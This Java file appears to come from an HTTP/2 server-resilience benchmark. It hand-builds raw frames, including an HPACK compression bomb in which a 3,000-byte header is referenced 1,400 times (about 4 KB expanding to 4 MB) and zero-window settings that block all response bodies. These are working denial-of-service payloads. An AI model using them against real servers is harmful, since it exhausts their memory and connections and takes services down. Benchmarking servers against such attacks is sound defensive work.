package dev.causeway.benchmarks.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** HTTP/2 frames as bytes (RFC 9113), written by nothing that would keep them from being wrong. */
final class Frames {
  static final int DATA = 0;
  static final int HEADERS = 1;
  static final int RST_STREAM = 3;
  static final int SETTINGS = 4;
  static final int PING = 6;
  static final int GOAWAY = 7;
  static final int WINDOW_UPDATE = 8;
  static final int CONTINUATION = 9;
  static final int END_STREAM = 1;
  static final int END_HEADERS = 4;

  /** Bytes of the part of a frame before its payload. */
  static final int HEAD_BYTES = 9;

  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int BOMB_VALUE = 3000;
  private static final int BOMB_FIELDS = 1400;

  private Frames() {}

  static byte[] frame(int type, int flags, int stream, byte... payload) {
    return ByteBuffer.allocate(HEAD_BYTES + payload.length)
        .put((byte) (payload.length >> 16))
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  static byte[] number(int value) {
    return ByteBuffer.allocate(4).putInt(value).array();
  }

  /** What a client sends first: preface and settings. */
  static byte[] opening() {
    return join(
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
        frame(SETTINGS, 0, 0));
  }

  /** Settings that allow no response body. */
  static byte[] zeroWindow() {
    return settings(0);
  }

  /** Settings with a window for response bodies of new streams. */
  static byte[] settings(int window) {
    return frame(SETTINGS, 0, 0, join(new byte[] {0, INITIAL_WINDOW_SIZE}, number(window)));
  }

  /**
   * Header block of a request, which leaves no trace in the compression table.
   *
   * @param method 2 for GET, 3 for POST: the index in the static table
   */
  static byte[] request(int method, String path) {
    return join(
        new byte[] {(byte) (0x80 | method), (byte) 0x86, 0x04}, // :scheme http, :path
        text(path),
        new byte[] {0x01}, // :authority
        text(Target.HOST));
  }

  /** One entry in the compression table, named again and again: 4 KB that mean 4 MB. */
  static byte[] bomb() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(request(2, "/"));
    block.writeBytes(new byte[] {0x40, 1, 'x'});
    // A length as an integer with a prefix of 7 bits (RFC 7541, 5.1).
    block.write(0x7f);
    block.write(0x80 | ((BOMB_VALUE - 127) % 128));
    block.write((BOMB_VALUE - 127) / 128);
    block.writeBytes("y".repeat(BOMB_VALUE).getBytes(StandardCharsets.US_ASCII));
    for (int i = 0; i < BOMB_FIELDS; i++) {
      block.write(0x80 | 62);
    }
    return block.toByteArray();
  }

  private static byte[] text(String text) {
    byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
    return join(new byte[] {(byte) bytes.length}, bytes);
  }

  static byte[] join(byte[]... parts) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }
}
